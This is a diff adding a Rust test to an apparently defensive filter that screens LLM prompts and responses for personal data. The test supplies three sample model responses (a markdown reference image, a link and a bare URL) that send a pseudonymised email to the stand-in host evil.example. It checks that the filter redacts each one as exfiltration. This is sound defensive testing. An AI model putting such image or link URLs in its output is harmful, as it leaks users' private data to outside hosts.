@@ -199,3 +199,25 @@ fn canary_and_rule_count() {
     assert_ne!(c, f.canary().expect("canary"));
     assert!(f.rule_count() > 0);
 }
+
+/// Issue 17's headline: a reference image whose definition carries a
+/// pseudonym to a foreign host loads nothing and restores nothing there.
+#[wasm_bindgen_test]
+fn reference_image_does_not_exfiltrate_restored_pii() {
+    let f = filter();
+    let p = f.screen_prompt(js("I am ana@example.com")).expect("screen");
+    assert!(get_str(&p, "text").contains("EMAIL_1"));
+    for r in [
+        "![a][x]\n\n[x]: https://evil.example/p.png?d=EMAIL_1",
+        "[click](https://evil.example/c?d=EMAIL_1)",
+        "see https://evil.example/c?d=EMAIL_1 now",
+    ] {
+        let out = f.screen_response(js(r)).expect("screenResponse");
+        assert!(!get_str(&out, "text").contains("ana@example.com"), "{r}");
+        let f0 = findings(&out)
+            .into_iter()
+            .find(|x| get_str(x, "kind") == "exfiltration")
+            .unwrap_or_else(|| panic!("no exfiltration finding: {r}"));
+        assert_eq!(get_str(&f0, "action"), "redact");
+    }
+}
